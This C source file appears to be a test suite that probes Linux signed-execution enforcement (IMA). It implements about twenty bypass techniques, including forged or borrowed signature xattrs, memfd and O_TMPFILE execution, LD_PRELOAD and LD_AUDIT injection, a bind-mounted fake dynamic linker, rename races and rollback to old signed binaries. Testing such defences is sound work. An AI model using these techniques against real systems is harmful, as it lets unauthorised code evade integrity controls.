// SPDX-License-Identifier: BSD-3-Clause
/* Ways to execute a program that nobody signed, or to load such a library. */
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <unistd.h>

#include "attack.h"

static int execute(void)
{
	copy_file("payload", "program");
	return RUN("./program");
}

/* The payload with the signature of the victim. */
static int execute_borrowed(void)
{
	copy_file("payload", "program");
	need(borrow_signature("victim", "program"), "signature");
	return RUN("./program");
}

static int execute_garbage(void)
{
	static const char garbage[300] = {3, 2, 4, 1, 2, 3, 4, 2}; /* says it has 512 bytes */

	copy_file("payload", "program");
	need(setxattr("program", "security.ima", garbage, sizeof(garbage), 0), "signature");
	return RUN("./program");
}

/* What IMA takes for integrity: the hash of the file, signed by nobody. */
static int execute_hashed(void)
{
	static const char hash[2 + 32] = {4, 4};

	copy_file("payload", "program");
	need(setxattr("program", "security.ima", hash, sizeof(hash), 0), "hash");
	return RUN("./program");
}

/* A byte behind the end of the signed content. */
static int execute_appended(void)
{
	int fd;

	copy_file("victim", "program");
	fd = need(open("program", O_WRONLY | O_APPEND), "program");
	need(write(fd, "", 1), "program");
	close(fd);
	return answer_of("./program") == INTENDED ? WORKED : -EACCES;
}

static int memfd(void)
{
	static char bytes[1 << 20];
	int fd = memfd_create("payload", 0);
	size_t size = load_file("payload", bytes, sizeof(bytes));

	if (fd < 0)
		return -errno;
	need(write(fd, bytes, size), "memfd");
	return run_descriptor(fd);
}

static int signed_memfd(void)
{
	static char bytes[1 << 20];
	char path[64];
	int fd = memfd_create("payload", 0);
	size_t size = load_file("payload", bytes, sizeof(bytes));

	if (fd < 0)
		return -errno;
	need(write(fd, bytes, size), "memfd");
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	need(borrow_signature("victim", path), "signature");
	return run_descriptor(fd);
}

static int o_tmpfile(void)
{
	static char bytes[1 << 20];
	size_t size = load_file("payload", bytes, sizeof(bytes));
	int writing = need(open(".", O_TMPFILE | O_RDWR, 0755), "O_TMPFILE");
	char path[64];
	int fd;

	need(write(writing, bytes, size), "write");
	snprintf(path, sizeof(path), "/proc/self/fd/%d", writing);
	fd = need(open(path, O_RDONLY), path);
	close(writing);
	return run_descriptor(fd);
}

static int unlinked(void)
{
	int fd;

	copy_file("payload", "program");
	fd = need(open("program", O_PATH), "program");
	need(unlink("program"), "unlink");
	return run_descriptor(fd);
}

static int dev_shm(void)
{
	copy_file("payload", "/dev/shm/program");
	return RUN("/dev/shm/program");
}

static int ld_so(void)
{
	copy_file("payload", "program");
	return RUN(DYNAMIC_LINKER, "./program");
}

/* The dynamic linker is executed by the kernel on behalf of a program that is signed. */
static int interpreter(void)
{
	copy_file("payload", "linker");
	need(unshare(CLONE_NEWNS), "unshare");
	need(mount("", "/", NULL, MS_REC | MS_PRIVATE, NULL), "private mounts");
	if (mount("linker", DYNAMIC_LINKER, NULL, MS_BIND, NULL) < 0)
		return -errno;
	return RUN(HOME "/victim");
}

static int preload(void)
{
	copy_file("payload.so", "library.so");
	need(setenv("LD_PRELOAD", "./library.so", 1), "LD_PRELOAD");
	need(setenv("ANSWER_WHEN_LOADED", "1", 1), "environment");
	return RUN("/bin/bash", "-c", ":");
}

/* Libraries that watch the dynamic linker: loaded before all others. */
static int audit(void)
{
	copy_file("payload.so", "library.so");
	need(setenv("LD_AUDIT", "./library.so", 1), "LD_AUDIT");
	need(setenv("ANSWER_WHEN_LOADED", "1", 1), "environment");
	return RUN("/bin/bash", "-c", ":");
}

static int load_library(const char *path)
{
	void *library = dlopen(path, RTLD_NOW);
	code_t *answer;

	if (!library)
		return errno ? -errno : -EACCES;
	answer = (code_t *)dlsym(library, "answer");
	return answer && answer() == ATTACKED ? WORKED : -EILSEQ;
}

static int dlopen_payload(void)
{
	copy_file("payload.so", "library.so");
	return load_library("./library.so");
}

static int dlopen_borrowed(void)
{
	copy_file("payload.so", "library.so");
	need(borrow_signature("victim.so", "library.so"), "signature");
	return load_library("./library.so");
}

/* A new file in the place of a signed one, which the file system may always do. */
static int rename_over(void)
{
	copy_file("victim", "program");
	copy_file("payload", "other");
	answer_of("./program");
	need(rename("other", "program"), "rename");
	return RUN("./program");
}

static int exchange(void)
{
	copy_file("victim", "program");
	copy_file("payload", "other");
	need(borrow_signature("victim", "other"), "signature");
	answer_of("./program");
	need(renameat2(AT_FDCWD, "other", AT_FDCWD, "program", RENAME_EXCHANGE), "exchange");
	return RUN("./program");
}

/* Executed in the moment in which somebody could still write: the kernel refuses that of programs,
 * not of libraries. */
static int library_held_open(void)
{
	static char bytes[1 << 20];
	size_t size = load_file("payload.so", bytes, sizeof(bytes));
	code_t *answer;
	void *library;
	int fd;

	copy_file("victim.so", "library.so");
	fd = need(open("library.so", O_WRONLY), "library.so");
	library = dlopen("./library.so", RTLD_NOW);
	if (!library)
		return errno ? -errno : -EACCES;
	answer = (code_t *)dlsym(library, "answer");
	need(pwrite(fd, bytes, size, 0), "library.so");
	return answer && answer() == ATTACKED ? WORKED : -EILSEQ;
}

/* Signed once, and with a hole that the vendor has mended since. */
static int rollback(void)
{
	copy_file("old", "program");
	return RUN("./program");
}

const struct attack program_attacks[] = {
	{"execute", execute},
	{"execute-borrowed", execute_borrowed},
	{"execute-garbage", execute_garbage},
	{"execute-hashed", execute_hashed},
	{"execute-appended", execute_appended},
	{"memfd", memfd},
	{"signed-memfd", signed_memfd},
	{"o-tmpfile", o_tmpfile},
	{"unlinked", unlinked},
	{"dev-shm", dev_shm},
	{"ld-so", ld_so},
	{"interpreter", interpreter},
	{"preload", preload},
	{"audit", audit},
	{"dlopen", dlopen_payload},
	{"dlopen-borrowed", dlopen_borrowed},
	{"rename-over", rename_over},
	{"exchange", exchange},
	{"library-held-open", library_held_open},
	{"rollback", rollback},
	{NULL, NULL},
};
